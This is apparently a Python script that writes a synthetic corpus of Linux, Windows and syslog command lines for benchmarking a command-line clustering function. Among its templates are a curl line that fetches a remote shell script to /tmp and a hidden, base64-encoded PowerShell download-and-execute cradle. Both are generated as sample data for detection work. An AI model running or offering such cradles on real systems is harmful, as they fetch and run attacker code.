#!/usr/bin/env python3
"""Writes a deterministic corpus of process command lines and log messages for the
cmdline_pattern benchmark (bench/clustering_bench.sh), one per line.

    bench/gen_cmdlines.py OUT [MEGABYTES]      (default 40 MB)

The mix is what `GROUP BY cmdline_pattern(cmdline)` meets in an investigation: Linux
audit execve command lines (agents, cron, shells with pids, temp files, home paths),
Windows 4688 command lines (GUID paths, user profiles, hex handles, encoded PowerShell),
and syslog/sshd messages (IPs, ports, timestamps, user names). The same seed always
gives the same bytes.
"""
import base64
import random
import sys

R = random.Random(20190302)
USERS = ["alice", "bob", "svc_backup", "MSTICAdmin", "carol", "dave", "www-data"]


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def guid():
    return f"{hexs(8)}-{hexs(4)}-{hexs(4)}-{hexs(4)}-{hexs(12)}".upper()


def ip():
    return f"{R.randint(1, 223)}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}"


def ts():
    return f"2019-03-{R.randint(1, 28):02d}T{R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d}.{R.randint(0, 999):03d}Z"


def linux():
    k = R.randrange(8)
    if k == 0:
        return f"/bin/sh -c /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null --pid {R.randint(1000, 60000)}"
    if k == 1:
        return f"grep -q {hexs(6)} /proc/{R.randint(1, 65000)}/status"
    if k == 2:
        return f"/usr/bin/python3 /var/lib/waagent/WALinuxAgent-2.2.{R.randint(30, 45)}/bin/WALinuxAgent-2.2.{R.randint(30, 45)}-py2.7.egg -run-exthandlers"
    if k == 3:
        return f"cp /tmp/tmp.{hexs(10)} /home/{R.choice(USERS)}/.cache/{hexs(8)}.dat"
    if k == 4:
        return f"sleep {R.randint(1, 600)}"
    if k == 5:
        return f"/opt/microsoft/omsagent/ruby/bin/ruby /opt/microsoft/omsagent/bin/omsagent-{guid().lower()} -d /var/opt/microsoft/omsagent/{guid().lower()}/run/omsagent.pid"
    if k == 6:
        return f"curl -s http://{ip()}:{R.randint(1024, 65535)}/x{hexs(4)}.sh -o /tmp/{hexs(6)}"
    return f"ssh -o StrictHostKeyChecking=no {R.choice(USERS)}@{ip()} uptime"


def windows():
    k = R.randrange(6)
    user = R.choice(USERS)
    if k == 0:
        return f'"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\CT_{R.randint(10**8, 10**9)}\\NativeDSC\\DesiredStateConfiguration\\ASMHost.exe" GetInventory'
    if k == 1:
        return f"\\??\\C:\\Windows\\system32\\conhost.exe 0x{hexs(8)} -ForceV1"
    if k == 2:
        return f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{hexs(8)}.ps1 -Session {guid()}"
    if k == 3:
        payload = base64.b64encode(("IEX (New-Object Net.WebClient).DownloadString('http://" + ip() + "/a')").encode("utf-16-le")).decode()
        return f"powershell.exe -nop -w hidden -enc {payload}"
    if k == 4:
        return f"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule {{{guid()}}} S-1-5-21-{R.randint(10**9, 4 * 10**9)}-{R.randint(10**9, 4 * 10**9)}-{R.randint(10**8, 10**9)}-{R.randint(1000, 2000)}"
    return f"C:\\Windows\\System32\\cmd.exe /c echo {ts()} >> C:\\Users\\{user}\\log_{R.randint(1, 999)}.txt"


def syslog():
    k = R.randrange(4)
    if k == 0:
        return f"Failed password for invalid user {R.choice(USERS)} from {ip()} port {R.randint(1024, 65535)} ssh2"
    if k == 1:
        return f"Accepted publickey for {R.choice(USERS)} from {ip()} port {R.randint(1024, 65535)} ssh2: RSA SHA256:{base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode()[:43]}"
    if k == 2:
        return f"Jun {R.randint(1, 28)} {R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d} combo sshd(pam_unix)[{R.randint(1000, 60000)}]: session opened for user {R.choice(USERS)} by (uid=0)"
    return f"connection from {ip()} () at Fri Jun {R.randint(1, 28)} {R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d} 2005"


def main():
    out = sys.argv[1]
    target = int(float(sys.argv[2] if len(sys.argv) > 2 else 40) * 1e6)
    written = 0
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        while written < target:
            line = R.choice((linux, linux, windows, syslog))() + "\n"
            f.write(line)
            written += len(line.encode("utf-8"))


if __name__ == "__main__":
    main()
